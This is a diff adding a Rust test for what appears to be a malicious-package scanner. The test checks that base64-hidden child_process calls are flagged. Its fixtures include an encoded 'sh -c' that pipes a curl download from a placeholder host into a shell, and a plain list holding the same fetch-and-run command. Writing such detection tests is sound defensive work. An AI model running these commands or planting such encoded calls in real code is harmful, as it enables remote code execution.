@@ -109,6 +109,20 @@ fn starts_what_it_fetches(found: &Found) -> bool {
 }
 
 #[test]
+fn an_encoded_path_of_a_program_of_the_package_hides_no_effect() {
+    let hides = |command: &str| {
+        let code = format!("require('child_process').execFileSync({command}, ['--version']);\n");
+        let found = with_module(&code, "");
+        let mut flows = found.flows.iter();
+        flows.any(|flow| flow.marks.contains(&Mark::HiddenEffect))
+    };
+    assert!(!hides("__dirname + atob('L3Rvb2w=')"));
+    // One edge changed: what is encoded fetches and runs.
+    let hidden = "atob('c2g='), ['-c', atob('Y3VybCAtcyBodHRwczovL2EuaW52YWxpZC9hIHwgc2g=')]";
+    assert!(hides(hidden));
+}
+
+#[test]
 fn a_list_of_another_module_is_read_as_its_importer_leaves_it() {
     let module = "const t = ['exec', 'curl -s https://turn.invalid/a | sh', 'child_process'];\n\
                   module.exports = { t };\n";
